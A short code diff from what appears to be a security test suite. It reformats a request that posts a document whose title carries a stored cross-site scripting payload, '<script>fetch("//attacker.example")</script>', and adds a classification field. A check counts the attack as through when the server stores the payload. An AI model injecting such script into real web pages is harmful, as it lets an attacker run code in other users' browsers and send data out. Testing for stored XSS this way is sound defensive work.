@@ -9,7 +9,12 @@ export default attack({
     at.call('/v1/documents', {
       as: 'carl',
       headers: key(),
-      body: { title: '<script>fetch("//attacker.example")</script>', body: 'x', department: 'operations' },
+      body: {
+        title: '<script>fetch("//attacker.example")</script>',
+        body: 'x',
+        department: 'operations',
+        classification: 'internal',
+      },
     }),
   // Kept as text it does nothing here; a page that shows it has to write it as text. It counts as through when it is kept.
   through: ({ status, json }) => status === 201 && json?.title?.includes('<script>'),
